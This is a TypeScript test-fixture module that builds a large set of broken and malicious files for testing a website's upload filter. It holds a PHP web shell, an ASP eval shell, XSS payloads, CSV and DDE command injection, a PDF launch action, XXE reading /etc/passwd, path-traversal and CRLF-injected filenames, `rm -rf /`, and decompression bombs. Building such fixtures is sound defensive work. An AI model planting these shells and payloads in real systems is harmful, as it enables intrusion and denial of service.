import sharp from 'sharp'
import { EICAR } from './clamd.ts'
import { objectStreamOf, pdfOf } from './pdf.ts'
import { docxOf, xlsxOf, zipOf } from './zip.ts'

export type BadFile = { group: string; name: string; content: Buffer }

export type PhotoFormat = 'jpeg' | 'png' | 'webp'

/** A photo with a pattern in it, so that cutting it off shows. */
export function photoOf(format: PhotoFormat, { width = 320, height = 240 } = {}): Promise<Buffer> {
  const pixels = Buffer.from(
    Array.from({ length: width * height * 3 }, (_none, at) => (at * 31 + (at >> 7) * 17) % 256),
  )
  return sharp(pixels, { raw: { width, height, channels: 3 } })
    .toFormat(format)
    .toBuffer()
}

const SCRIPT = '<script>alert(document.domain)</script>'
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${SCRIPT}</svg>`
const HTML = `<!DOCTYPE html><html><body>${SCRIPT}</body></html>`
const ENDING = { jpeg: 'jpg', png: 'png', webp: 'webp' } as const
const FORMATS = ['jpeg', 'png', 'webp'] as const

/** More than two hundred files that nobody should be able to put on the site, each broken or malicious in its own way. */
export async function maliciousFiles(): Promise<BadFile[]> {
  const photos = { jpeg: await photoOf('jpeg'), png: await photoOf('png'), webp: await photoOf('webp') }
  return [
    ...drawings(),
    ...pages(),
    ...polyglots(photos),
    ...bombs(),
    ...(await giants()),
    ...cutOff(photos),
    ...names(photos),
    ...otherTypes(),
    ...empty(),
    ...pdfs(),
    ...office(),
  ]
}

const named = (group: string, list: Record<string, Buffer | string>): BadFile[] =>
  Object.entries(list).map(([name, content]) => ({ group, name, content: Buffer.from(content) }))

function drawings(): BadFile[] {
  const forms: Record<string, Buffer> = {
    plain: Buffer.from(SVG),
    prolog: Buffer.from(`<?xml version="1.0" encoding="UTF-8"?>\n${SVG}`),
    doctype: Buffer.from(`<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x">${SVG}`),
    marked: Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(SVG)]),
    wide: Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(SVG, 'utf16le')]),
    spaces: Buffer.from(`${' \n'.repeat(40)}${SVG}`),
    comment: Buffer.from(`<!-- gambar -->${SVG}`),
  }
  return Object.entries(forms).flatMap(([form, content]) =>
    ['svg', 'png', 'jpg', 'svg.png'].map((ending) => ({
      group: 'drawing with script',
      name: `${form}.${ending}`,
      content,
    })),
  )
}

function pages(): BadFile[] {
  const forms: Record<string, string> = {
    page: HTML,
    fragment: SCRIPT,
    image: '<img src=x onerror=alert(1)>',
    frame: '<iframe src="javascript:alert(1)"></iframe>',
    php: '<?php system($_GET["c"]); ?>',
    asp: '<% eval request("c") %>',
  }
  return Object.entries(forms).flatMap(([form, content]) =>
    ['jpg', 'png', 'webp', 'pdf', 'docx', 'html'].map((ending) => ({
      group: 'page or program under another name',
      name: `${form}.${ending}`,
      content: Buffer.from(content),
    })),
  )
}

function polyglots(photos: Record<PhotoFormat, Buffer>): BadFile[] {
  const behind = FORMATS.flatMap((format) =>
    [SCRIPT, HTML, '<?php phpinfo(); ?>', '"><img src=x onerror=alert(1)>', '<iframe src=javascript:alert(1)>'].map(
      (payload, index) => ({
        group: 'picture and page in one',
        name: `belakang-${index}.${ENDING[format]}`,
        content: Buffer.concat([photos[format], Buffer.from(payload)]),
      }),
    ),
  )
  const { jpeg } = photos
  const comment = Buffer.concat([Buffer.from([0xff, 0xfe, 0, SCRIPT.length + 2]), Buffer.from(SCRIPT)])
  const gif = 'GIF89a/*\x01\x00\x00\x00\x00*/=1;alert(1)//'
  return [
    ...behind,
    ...named('picture and page in one', {
      'komentar.jpg': Buffer.concat([jpeg.subarray(0, 2), comment, jpeg.subarray(2)]),
      'skrip.gif': gif,
      'skrip.jpg': gif,
      'skrip.js': gif,
      'skrip.png': `GIF87a=1;${SCRIPT}`,
      'bmp.jpg': 'BM=1;alert(1)//',
      'bmp.bmp': 'BM/*aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa*/=1;alert(1)',
      'pdf-di-belakang.pdf': Buffer.concat([pdfOf(), zipOf([{ name: 'a.html', content: HTML.repeat(60) }])]),
      'html-di-belakang.pdf': Buffer.concat([pdfOf(), Buffer.from(HTML.repeat(40))]),
      'html-di-depan.pdf': Buffer.concat([Buffer.from(HTML), pdfOf()]),
      'js-di-depan.pdf': Buffer.concat([Buffer.from('alert(1)/*'), pdfOf()]),
      'ekor.docx': zipWithComment(),
    }),
  ]
}

const zipWithComment = () =>
  zipOf(
    [
      { name: '[Content_Types].xml', content: '<Types/>' },
      { name: 'word/document.xml', content: '<w:document/>' },
    ],
    HTML,
  )

function bombs(): BadFile[] {
  const zeros = Buffer.alloc(70_000_000)
  const many = Array.from({ length: 4_000 }, (_none, at) => ({ name: `word/media/${at}.bin`, content: '' }))
  const some = (count: number) =>
    Array.from({ length: count }, (_none, at) => ({
      name: `word/media/${at}.bin`,
      content: zeros.subarray(0, 40_000_000),
    }))
  const lying = [{ name: 'word/media/a.bin', content: zeros.subarray(0, 20_000_000), claims: { size: 10 } }]
  return named('bomb', {
    'satu.docx': docxOf([{ name: 'word/media/a.bin', content: zeros }]),
    'satu.xlsx': xlsxOf([{ name: 'xl/media/a.bin', content: zeros }]),
    'teks.docx': docxOf([{ name: 'word/a.xml', content: Buffer.alloc(65_000_000, 0x20) }]),
    'lima.docx': docxOf(some(5)),
    'banyak.docx': docxOf(many),
    'banyak.xlsx': xlsxOf(many),
    'bohong.docx': docxOf(lying),
    'bohong.xlsx': xlsxOf(lying),
    'objek.pdf': pdfOf({ objects: [objectStreamOf('0'.repeat(70_000_000))] }),
    'dua-objek.pdf': pdfOf({
      objects: [objectStreamOf('0'.repeat(40_000_000)), objectStreamOf('0'.repeat(40_000_000))],
    }),
  })
}

async function giants(): Promise<BadFile[]> {
  const giant = (format: PhotoFormat, width = 10_000, height = 10_000) =>
    sharp({ create: { width, height, channels: 3, background: '#808080' }, limitInputPixels: false })
      .toFormat(format, format === 'png' ? { compressionLevel: 1 } : {})
      .toBuffer()
  const claimed = (width: number, height: number) => {
    const head = Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex')
    const size = Buffer.alloc(8)
    size.writeUInt32BE(width, 0)
    size.writeUInt32BE(height, 4)
    return Buffer.concat([head, size, Buffer.from('0806000000', 'hex'), Buffer.alloc(40)])
  }
  return named('too many pixels', {
    'sepuluh-ribu.jpg': await giant('jpeg'),
    'sepuluh-ribu.png': await giant('png'),
    'sepuluh-ribu.webp': await giant('webp'),
    'panjang.jpg': await giant('jpeg', 60_000, 1_000),
    'tinggi.jpg': await giant('jpeg', 1_000, 60_000),
    'mengaku-besar.png': claimed(100_000, 100_000),
    'mengaku-amat-besar.png': claimed(2_147_483_647, 2_147_483_647),
    'tanpa-ukuran.png': claimed(0, 0),
  })
}

function cutOff(photos: Record<PhotoFormat, Buffer>): BadFile[] {
  const whole: Record<string, Buffer> = {
    'foto.jpg': photos.jpeg,
    'foto.png': photos.png,
    'foto.webp': photos.webp,
    'panduan.pdf': pdfOf(),
    'surat.docx': docxOf(),
    'tabel.xlsx': xlsxOf(),
  }
  return Object.entries(whole).flatMap(([name, content]) =>
    [0.2, 0.5, 0.8, 0.95].map((share) => ({
      group: 'cut off',
      name: `${share * 100}-persen-${name}`,
      content: content.subarray(0, Math.floor(content.length * share)),
    })),
  )
}

function names({ jpeg }: Record<PhotoFormat, Buffer>): BadFile[] {
  const pdf = pdfOf()
  const double = ['exe', 'php', 'phtml', 'html', 'js', 'svg', 'sh', 'bat', 'jsp', 'hta'].flatMap((ending) => [
    { group: 'double ending', name: `laporan.pdf.${ending}`, content: pdf },
    { group: 'double ending', name: `foto.${ending}.jpg`, content: jpeg },
  ])
  return [
    ...double,
    ...named('wrong ending', {
      'foto.pdf': jpeg,
      'panduan.jpg': pdf,
      'surat.xlsx': docxOf(),
      'tabel.docx': xlsxOf(),
      'surat.pdf': docxOf(),
      'foto.docx': jpeg,
    }),
    ...named('name that is a path', {
      '../../../etc/passwd.jpg': jpeg,
      '..\\..\\windows\\win.jpg': jpeg,
      '/etc/cron.d/tugas.pdf': pdf,
      'C:\\foto.jpg': jpeg,
      'foto.jpg:rahasia.pdf': pdf,
      '..': jpeg,
      'foto.jpg\0.php': jpeg,
      '\0.jpg': jpeg,
      'foto\u202egpj.exe.jpg': jpeg,
      'foto\u200b.jpg': jpeg,
      'foto\r\nSet-Cookie: a=b.jpg': jpeg,
      'foto\u0007.jpg': jpeg,
    }),
    ...named('huge name', {
      [`${'a'.repeat(300)}.jpg`]: jpeg,
      [`${'b'.repeat(5_000)}.pdf`]: pdf,
      [`${'ü'.repeat(250)}.jpg`]: jpeg,
    }),
  ]
}

function otherTypes(): BadFile[] {
  const bytes = (hex: string, length = 300) => Buffer.concat([Buffer.from(hex, 'hex'), Buffer.alloc(length)])
  return named('another type', {
    'program.exe': bytes('4d5a90000300000004000000ffff0000'),
    'program.jpg': bytes('4d5a90000300000004000000ffff0000'),
    'program.pdf': bytes('7f454c46020101000000000000000000'),
    'film.mp4': bytes('0000001866747970697336d0000000006d703432'),
    'film.jpg': bytes('0000001c667479706d70343200000001'),
    'lagu.mp3': bytes('49443303000000000f76'),
    'gambar.gif': bytes('474946383961010001000000002c00000000010001000002'),
    'gambar.bmp': bytes('424d46000000000000003600000028000000'),
    'gambar.tif': bytes('49492a0008000000'),
    'ikon.ico': bytes('00000100010010100000010020006804'),
    'ikon.png': bytes('00000100010010100000010020006804'),
    'arsip.zip': zipOf([{ name: 'a.txt', content: 'a' }]),
    'arsip.docx': zipOf([{ name: 'a.txt', content: 'a' }]),
    'program.apk': zipOf([{ name: 'AndroidManifest.xml', content: 'a' }]),
    'program.jar': zipOf([{ name: 'META-INF/MANIFEST.MF', content: 'a' }]),
    'salindia.pptx': zipOf([
      { name: '[Content_Types].xml', content: '<Types/>' },
      { name: 'ppt/presentation.xml', content: '<p/>' },
    ]),
    'buku.epub': zipOf([{ name: 'mimetype', content: 'application/epub+zip' }]),
    'arsip.gz': bytes('1f8b0800000000000003'),
    'arsip.7z': bytes('377abcaf271c0004'),
    'arsip.rar': bytes('526172211a0700'),
    'surat-lama.doc': bytes('d0cf11e0a1b11ae1', 1_000),
    'surat-lama.docx': bytes('d0cf11e0a1b11ae1', 1_000),
    'surat.rtf': '{\\rtf1\\ansi halo}',
    'catatan.txt': 'Hanya teks.',
    'tabel.csv': "=cmd|' /C calc'!A0,1\n2,3\n",
    'data.json': '{"a":1}',
    'data.xml': '<?xml version="1.0"?><a/>',
    'foto.heic': Buffer.concat([
      bytes('00000018667479706865696300000000', 0),
      Buffer.from('mif1heic'),
      Buffer.alloc(100),
    ]),
    'lukisan.psd': bytes('384250530001'),
    'data.sqlite': Buffer.concat([Buffer.from('SQLite format 3\0'), Buffer.alloc(200)]),
    'kelas.class': bytes('cafebabe00000034'),
    'modul.wasm': bytes('0061736d01000000'),
    'skrip.sh': '#!/bin/sh\nrm -rf /\n',
    'acak.pdf': Buffer.from(Array.from({ length: 2_000 }, (_none, at) => (at * 167 + 13) % 256)),
    'virus.txt': EICAR,
    'font.woff2': bytes('774f463200010000'),
  })
}

const empty = () =>
  named('empty', {
    'kosong.jpg': '',
    'kosong.pdf': '',
    'kosong.docx': '',
    kosong: '',
    'satu.png': 'a',
    'spasi.pdf': ' \n ',
  })

function pdfs(): BadFile[] {
  const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'
  const action = (name: string) => `/OpenAction << /S /${name} /F (cmd.exe) >>`
  return named('PDF that acts', {
    'skrip.pdf': pdfOf({ catalog: `/OpenAction ${script}` }),
    'skrip-terselubung.pdf': pdfOf({ catalog: '/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>' }),
    'skrip-nama.pdf': pdfOf({ catalog: `/Names << /JavaScript << /Names [(a) ${script}] >> >>` }),
    'skrip-halaman.pdf': pdfOf({ objects: [`<< /Type /Annot /AA << /O ${script} >> >>`] }),
    'skrip-terkemas.pdf': pdfOf({ objects: [objectStreamOf(`5 0 ${script}`)] }),
    'skrip-terkemas-2.pdf': pdfOf({
      objects: [objectStreamOf('5 0 << /S /JavaScript /JS (x) >>', '/F#69lter [ /FlateDecode ]')],
    }),
    'skrip-polos.pdf': pdfOf({ objects: [`<< /Type /ObjStm /N 1 /First 4 >>\nstream\n5 0 ${script}\nendstream`] }),
    'kemasan-aneh.pdf': pdfOf({
      objects: [objectStreamOf(`5 0 ${script}`, '/Filter [ /ASCIIHexDecode /FlateDecode ]')],
    }),
    'kemasan-rusak.pdf': pdfOf({
      objects: ['<< /Type /ObjStm /N 1 /Filter /FlateDecode >>\nstream\nbukan kemasan\nendstream'],
    }),
    'jalankan.pdf': pdfOf({ catalog: action('Launch') }),
    'kirim.pdf': pdfOf({ catalog: action('SubmitForm') }),
    'impor.pdf': pdfOf({ catalog: action('ImportData') }),
    'kaya.pdf': pdfOf({ objects: ['<< /Type /Annot /Subtype /RichMedia >>'] }),
    'formulir.pdf': pdfOf({ catalog: '/AcroForm << /XFA (x) >>' }),
    'membawa.pdf': pdfOf({ objects: ['<< /Type /EmbeddedFile /Length 0 >>'] }),
    'membawa-nama.pdf': pdfOf({ catalog: '/Names << /EmbeddedFiles << >> >>' }),
    'terkunci.pdf': pdfOf({ trailer: '/Encrypt 4 0 R' }),
    'tanpa-akhir.pdf': pdfOf().subarray(0, -8),
    'tanpa-halaman.pdf': '%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\nstartxref\n0\n%%EOF\n',
    'kepala-saja.pdf': '%PDF-1.7\n',
    'versi-aneh.pdf': pdfOf({ head: '%PDF-9.9\n' }),
    'aliran-terbuka.pdf': '%PDF-1.4\n1 0 obj\n<< /Type /Page >>\nstream\nabc\nstartxref\n0\n%%EOF\n',
    'virus.pdf': pdfOf({ words: 'x', tail: EICAR.repeat(30) }),
  })
}

function office(): BadFile[] {
  const rel = (type: string, target = 'https://jahat.invalid/t.dotm') =>
    `<Relationships><Relationship Id="a" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`
  const macroTypes = '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
  return named('office document that acts', {
    'makro.docx': docxOf([{ name: 'word/vbaProject.bin', content: 'x' }]),
    'makro.xlsx': xlsxOf([{ name: 'xl/vbaProject.bin', content: 'x' }]),
    'makro-tersembunyi.docx': docxOf([{ name: 'word/VBAPROJECT.BIN', content: 'x' }]),
    'makro-jenis.docx': docxOf([{ name: '[Content_Types].xml', content: macroTypes }]),
    'makro.docm': docxOf([{ name: '[Content_Types].xml', content: macroTypes }]),
    'makro-4.xlsx': xlsxOf([{ name: 'xl/macrosheets/sheet1.xml', content: '<a/>' }]),
    'aktif.docx': docxOf([{ name: 'word/activeX/activeX1.xml', content: '<a/>' }]),
    'objek.docx': docxOf([{ name: 'word/embeddings/oleObject1.bin', content: 'x' }]),
    'program.docx': docxOf([{ name: 'word/embeddings/a.exe', content: 'MZ' }]),
    'halaman.docx': docxOf([{ name: 'word/a.html', content: HTML }]),
    'templat.docx': docxOf([{ name: 'word/_rels/settings.xml.rels', content: rel('attachedTemplate') }]),
    'bingkai.docx': docxOf([{ name: 'word/_rels/webSettings.xml.rels', content: rel('frame') }]),
    'ole-luar.docx': docxOf([{ name: 'word/_rels/document.xml.rels', content: rel('oleObject') }]),
    'buku-luar.xlsx': xlsxOf([
      { name: 'xl/externalLinks/_rels/externalLink1.xml.rels', content: rel('externalLinkPath') },
    ]),
    'dde.docx': docxOf([], 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'),
    'dde.xlsx': xlsxOf([{ name: 'xl/externalLinks/externalLink1.xml', content: '<ddeLink ddeService="cmd"/>' }]),
    'entitas.docx': docxOf([
      {
        name: 'word/document.xml',
        content: '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><w:document>&b;</w:document>',
      },
    ]),
    'seribu-tawa.xlsx': xlsxOf([
      { name: 'xl/workbook.xml', content: '<!DOCTYPE lolz [<!ENTITY lol "lol">]><workbook/>' },
    ]),
    'naik.docx': docxOf([{ name: '../../jahat.xml', content: '<a/>' }]),
    'mutlak.docx': docxOf([{ name: '/etc/passwd', content: 'x' }]),
    'terkunci.docx': docxOf([{ name: 'word/a.xml', content: '<a/>', claims: { flags: 1 } }]),
    'tanpa-isi.docx': zipOf([{ name: '[Content_Types].xml', content: '<Types/>' }]),
    'tanpa-jenis.docx': zipOf([{ name: 'word/document.xml', content: '<w:document/>' }]),
    'direktori-rusak.docx': Buffer.concat([docxOf().subarray(0, -22), Buffer.alloc(22, 1)]),
  })
}
